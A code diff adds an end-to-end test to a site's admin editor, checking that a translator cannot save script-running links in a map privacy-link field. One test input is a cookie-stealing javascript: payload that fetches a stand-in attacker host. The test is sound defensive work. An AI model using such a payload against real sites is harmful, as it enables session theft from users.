@@ -13,6 +13,7 @@ import sharp from "sharp";
 import { parse } from "yaml";
 import { adminWords } from "../../app/admin/words.ts";
 import { fillTemplate } from "../../app/format/template.ts";
+import { ruleText } from "../../app/content/schemas/rules.ts";
 import { fieldText, pageName } from "../../app/admin/field-words/index.ts";
 import { photoPlace } from "../../app/admin/field-words/photo-places.ts";
 import { editorAccount, editorPassword } from "./admin-accounts.ts";
@@ -610,6 +611,30 @@ test("an Arabic translator edits Arabic right to left, and cannot change Italian
     const answer = await page.goto(`/admin/edit/${file}`);
     expect(answer?.status(), file).toBe(403);
     await expect(page.getByRole("alert")).toHaveText(words.edit.notYours);
+  }
+});
+
+test("a link that would run a script is refused at its field, and the file is unchanged", async ({
+  page,
+}) => {
+  // Issue 49: a translator once saved a javascript: address as the Arabic map's privacy link.
+  await signIn(page, "arabic@foundry.example");
+  await page.goto("/admin/edit/ar/contact");
+  const before = saved("ar/contact");
+  const href = page.getByLabel(
+    fieldText("contact", ["details", "map", "providerPrivacy", "href"], "en").label,
+    {
+      exact: true,
+    },
+  );
+  for (const address of ["javascript:fetch('//evil.example/'+document.cookie)", "data:text/html,<b>hi</b>"]) {
+    await href.fill(address);
+    await page.getByRole("button", { name: words.edit.save }).click();
+    await expect(page.getByRole("alert")).toContainText(filled(words.edit.problems));
+    await expect(href).toHaveAttribute("aria-invalid", "true");
+    await expect(href).toHaveValue(address);
+    await expect(page.getByText(ruleText("en", { code: "safeLink", values: {} })).first()).toBeVisible();
+    expect(saved("ar/contact")).toBe(before);
   }
 });
 
